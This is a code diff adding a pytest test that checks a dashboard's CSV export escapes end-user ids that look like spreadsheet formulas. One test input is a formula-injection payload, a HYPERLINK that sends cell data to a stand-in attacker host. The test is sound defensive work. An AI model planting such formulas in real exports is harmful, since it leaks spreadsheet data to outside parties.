@@ -247,6 +247,19 @@ def test_the_series_download_as_csv(workspace: Workspace, owner: User) -> None:
     assert sum(int(row[2]) for row in table[1:]) == 30
 
 
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(workspace: Workspace, owner: User) -> None:
+    """End-user ids come from callers: one named like a formula must reach the spreadsheet as text."""
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    for end_user in (attack, "@SUM(1)", "+1", "-1", "\tx", "alice"):
+        UsageRecordFactory.create(workspace=workspace, end_user=end_user)
+    UsageRecord.objects.update(created_at=DAY0)
+    usage_rollup()
+    response = dashboard(owner, group_by="end_user", export="csv")
+    keys = {row[0] for row in csv.reader(io.StringIO(response.content.decode()))}
+    assert "'" + attack in keys and {"'@SUM(1)", "'+1", "'-1", "'\tx", "alice"} <= keys
+    assert not any(key.startswith(("=", "+", "-", "@", "\t")) for key in keys)
+
+
 @pytest.mark.parametrize(
     ("params", "field"),
     [
